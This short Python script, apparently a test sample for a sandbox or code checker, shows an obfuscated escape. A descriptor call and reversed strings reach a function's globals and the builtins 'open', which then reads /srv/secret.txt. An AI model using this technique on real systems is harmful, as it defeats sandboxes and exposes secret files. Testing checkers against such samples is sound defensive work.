# reaches: a descriptor's method gets another object for self, whose field names a function's globals
from collections import namedtuple
class Field:
    def __set_name__(self, owner, name):
        self.key = name
    def __get__(self, obj, owner=None):
        return getattr(obj, self.key)
class Row:
    value = Field()
def plain():
    return 1
Other = namedtuple("Other", "k" + "ey")
found = Field.__get__(Other("_" * 2 + "slabolg"[::-1] + "_" * 2), plain)
inside = [v for k, v in found.items() if k.strip("_") == "builtins"][0]
print([inside.__dict__[n] for n in inside.__dict__ if n == "nepo"[::-1]][0]("/srv/secret.txt").read())
